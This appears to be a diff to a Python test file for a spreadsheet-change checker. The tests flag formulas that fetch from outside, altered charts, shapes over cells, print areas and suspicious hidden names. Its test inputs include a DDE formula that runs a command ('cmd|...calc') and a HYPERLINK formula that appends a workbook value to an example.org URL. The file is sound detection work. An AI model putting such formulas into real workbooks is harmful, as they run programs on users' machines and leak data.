@@ -320,6 +320,8 @@ class TestWhatRunsOrFetches:
             "[1]Prices!$A$1*2",
             "'C:\\data\\[prices.xlsx]Sheet 1'!$A$1",
             "cmd|'/C calc'!A0",
+            'HYPERLINK("https://example.org/?"&npv, 1250000)',
+            "hyperlink ( A1 , 5)",
         ],
     )
     def test_a_formula_that_fetches_from_elsewhere_is_a_warning(
@@ -330,8 +332,9 @@ class TestWhatRunsOrFetches:
         (finding,) = found("added", content)
         assert (finding.sheet, finding.cell, finding.severity) == ("Results", "A400", "warning")
 
-    def test_a_formula_of_the_analysts_own_is_a_remark(self, core: Made, found: Found) -> None:
-        cell = '<row r="400"><c r="A400"><f>npv*2</f><v>1</v></c></row></sheetData>'
+    @pytest.mark.parametrize("formula", ["npv*2", 'HYPERLINK("#npv",1250000)'])
+    def test_a_formula_of_the_analysts_own_is_a_remark(self, formula: str, core: Made, found: Found) -> None:
+        cell = f'<row r="400"><c r="A400"><f>{formula}</f><v>1</v></c></row></sheetData>'
         content = with_sheet(core.content(), "Results", lambda xml: xml.replace("</sheetData>", cell))
         (finding,) = found("added", content)
         assert finding.severity == "info"
@@ -524,3 +527,128 @@ class TestWhatProgramsLose:
         after.write_bytes(without(core.content(), VALIDATIONS, PROTECTION))
         told = changes(read_workbook(core_file), read_workbook(after)).formulas
         assert [(each.change, each.finding.kind) for each in told] == [("new", "lost-on-saving")]
+
+
+XDR, DRAWING = "xdr:", "http://schemas.openxmlformats.org/drawingml/2006/main"
+
+
+def with_shape(content: bytes, part: str, corners: tuple[int, int, int, int], text: str) -> bytes:
+    """The file with a box of text over some cells."""
+    at = [
+        f"<xdr:{end}><xdr:col>{column}</xdr:col><xdr:row>{row}</xdr:row></xdr:{end}>"
+        for end, row, column in (("from", *corners[:2]), ("to", *corners[2:]))
+    ]
+    box = (
+        f'<xdr:twoCellAnchor>{"".join(at)}<xdr:sp xmlns:a="{DRAWING}"><xdr:txBody><a:p><a:r><a:t>{text}</a:t></a:r></a:p>'
+        "</xdr:txBody></xdr:sp><xdr:clientData/></xdr:twoCellAnchor></xdr:wsDr>"
+    )
+    return with_part(content, part, lambda xml: xml.replace("</xdr:wsDr>", box))
+
+
+class TestCharts:
+    CHART = "xl/charts/chart2.xml"
+
+    def test_a_series_that_shows_other_cells_is_told_with_both(self, core: Made, found: Found) -> None:
+        drawn, other = core.book.names["cash_drawn"], core.book.names["waterfall_text"]
+        content = with_part(
+            core.content(),
+            self.CHART,
+            lambda xml: xml.replace(f"<c:f>{drawn.reference}<", f"<c:f>{other.reference}<"),
+        )
+        (finding,) = found("chart-changed", content)
+        assert (finding.sheet, finding.severity) == ("Summary", "warning")
+        assert other.reference in finding.message and drawn.address.replace("$", "") in finding.message
+        assert found("added", content) == [] and found("charts-lost", content) == []
+
+    @pytest.mark.parametrize(
+        ("title", "said"), [("NPV 1,250,000", 'says "NPV 1,250,000"; its cell'), ("", "is gone")]
+    )
+    def test_a_title_that_was_typed_over_is_told_with_what_its_cell_says(
+        self, title: str, said: str, core: Made, found: Found
+    ) -> None:
+        typed = f"<c:tx><c:rich><a:p><a:r><a:t>{title}</a:t></a:r></a:p></c:rich></c:tx>"
+        content = with_part(
+            core.content(),
+            self.CHART,
+            lambda xml: re.sub("(<c:title>)<c:tx>.*?</c:tx>", rf"\1{typed}", xml, count=1, flags=re.DOTALL),
+        )
+        (finding,) = found("chart-changed", content)
+        says = core.values["Results", *core.book.names["cash_title"][1:3]]
+        assert finding.severity == "warning" and said in finding.message and says in finding.message
+
+    def test_a_title_that_a_program_typed_as_its_cell_says_it_is_none(self, core: Made, found: Found) -> None:
+        says = core.values["Results", *core.book.names["cash_title"][1:3]]
+        typed = f"<c:tx><c:rich><a:p><a:r><a:t>{says}</a:t></a:r></a:p></c:rich></c:tx>"
+        content = with_part(
+            core.content(),
+            self.CHART,
+            lambda xml: re.sub("(<c:title>)<c:tx>.*?</c:tx>", rf"\1{typed}", xml, count=1, flags=re.DOTALL),
+        )
+        assert found("chart-changed", content) == []
+
+    def test_a_box_over_cells_is_a_warning_and_beside_them_a_remark(self, core: Made, found: Found) -> None:
+        drawing = "xl/drawings/drawing1.xml"
+        (over,) = found("added", with_shape(core.content(), drawing, (3, 1, 6, 4), "NPV 1,250,000"))
+        assert (over.sheet, over.cell, over.severity) == ("Summary", "B4:E7", "warning")
+        assert over.message.startswith('A shape that says "NPV 1,250,000" lies over')
+        (beside,) = found("added", with_shape(core.content(), drawing, (500, 40, 503, 42), "our logo"))
+        assert beside.severity == "info"
+
+    def test_another_chart_of_the_analysts_is_told_where_it_lies(self, core: Made, found: Found) -> None:
+        drawing = "xl/drawings/drawing1.xml"
+        content = with_part(
+            core.content(),
+            drawing,
+            lambda xml: re.sub(
+                "(<xdr:twoCellAnchor.*?</xdr:twoCellAnchor>)", r"\1\1", xml, count=1, flags=re.DOTALL
+            ),
+        )
+        (finding,) = found("added", content)
+        assert finding.message.startswith("A chart lies over ")
+
+
+class TestPrinted:
+    AREA = r'(<definedName name="_xlnm.Print_Area" localSheetId="1">)[^<]*'
+
+    def printing(self, content: bytes, areas: str) -> bytes:
+        """The file with another print area of Summary."""
+        return with_part(content, WORKBOOK, lambda xml: re.sub(self.AREA, rf"\g<1>{areas}", xml))
+
+    def test_a_print_area_that_cuts_off_results_is_a_remark(self, core: Made, found: Found) -> None:
+        content = self.printing(core.content(), "Summary!$A$1:$K$9")
+        (finding,) = found("not-printed", content)
+        assert (finding.sheet, finding.severity) == ("Summary", "info")
+        assert "Summary!$A$1:$K$9" in finding.message
+
+    @pytest.mark.parametrize(
+        "areas", ["Summary!$A$1:$K$9,Summary!$10:$900", "Summary!$A:$Z", "Summary!A1:Z900"]
+    )
+    def test_what_prints_as_much_or_more_is_not_told(self, areas: str, core: Made, found: Found) -> None:
+        assert found("not-printed", self.printing(core.content(), areas)) == []
+
+
+class TestNamesAndLinks:
+    @pytest.mark.parametrize(
+        ("name", "reference", "severity", "told"),
+        [
+            ('name="_xlm_price" hidden="1"', "41.37", "info", "_xlm_price (hidden)"),
+            ('name="_xlfn.PRICE" hidden="1"', "npv*2", "info", "_xlfn.PRICE (hidden)"),
+            ('name="_xlevil" hidden="1" localSheetId="1"', "npv*2", "info", "_xlevil (hidden)"),
+            ('name="price"', "[1]Prices!$A$1", "warning", "price"),
+        ],
+    )
+    def test_a_name_that_looks_like_a_programs_is_told(
+        self, name: str, reference: str, severity: str, told: str, core: Made, found: Found
+    ) -> None:
+        defined = f"<definedName {name}>{reference}</definedName></definedNames>"
+        content = with_part(core.content(), WORKBOOK, lambda xml: xml.replace("</definedNames>", defined))
+        (finding,) = found("added", content)
+        assert finding.severity == severity and finding.message.endswith(f": {told}.")
+
+    @pytest.mark.parametrize("name", ["_xlfn.XLOOKUP", "_xlpm.x"])
+    def test_a_name_that_stands_for_an_unknown_function_is_a_programs(
+        self, name: str, core: Made, found: Found
+    ) -> None:
+        defined = f'<definedName name="{name}" hidden="1">#NAME?</definedName></definedNames>'
+        content = with_part(core.content(), WORKBOOK, lambda xml: xml.replace("</definedNames>", defined))
+        assert found("added", content) == []
